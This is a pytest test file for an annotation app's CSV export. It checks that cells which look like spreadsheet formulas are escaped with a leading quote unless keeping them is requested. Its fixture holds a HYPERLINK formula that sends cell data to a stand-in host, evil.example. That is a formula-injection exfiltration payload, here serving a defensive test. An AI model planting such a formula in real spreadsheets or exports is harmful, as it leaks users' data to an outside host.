"""CSV export escapes cells a spreadsheet would run as formulas, unless asked to keep them."""

import csv
import io

import pytest
from django.core.management import call_command

from annotate.exporting.csv import escape_formula
from annotate.tags import do_edit_tag
from tests.api_helpers import client_for, make_span

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.mark.parametrize(("cell", "written"), [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("plain", "plain"), ("", ""), ("a=b", "a=b"), (5, 5), (None, None),
])
def test_formula_leading_text_cells_get_a_single_quote(cell, written):
    assert escape_formula(cell) == written


@pytest.fixture
def noted(project, document, cast, label):
    tag = make_span(project, document, cast["ann1"], label, "lifeline")
    return do_edit_tag(annotation=tag, changes={"note": FORMULA}, user=cast["ann1"], expected_version=tag.version)


def notes(raw):
    return [row["note"] for row in csv.DictReader(io.StringIO(raw.decode()))]


def test_csv_export_escapes_formulas_by_default(noted, cast, project):
    response = client_for(cast["reviewer"]).get(f"/api/projects/{project.pk}/export/?format=csv")
    assert response.status_code == 200
    assert notes(b"".join(response.streaming_content)) == ["'" + FORMULA]


def test_csv_export_keeps_formulas_when_asked(noted, cast, project):
    response = client_for(cast["reviewer"]).get(f"/api/projects/{project.pk}/export/?format=csv&csv_formulas=keep")
    assert notes(b"".join(response.streaming_content)) == [FORMULA]


@pytest.mark.parametrize(("option", "expected"), [([], "'" + FORMULA), (["--csv-formulas", "keep"], FORMULA)])
def test_export_command_escapes_unless_told_to_keep(noted, project, tmp_path, option, expected):
    out = tmp_path / "export.csv"
    call_command("export_annotations", "--project", project.slug, "--format", "csv", "--output", str(out), *option,
                 verbosity=0, stderr=io.StringIO())
    assert notes(out.read_bytes()) == [expected]
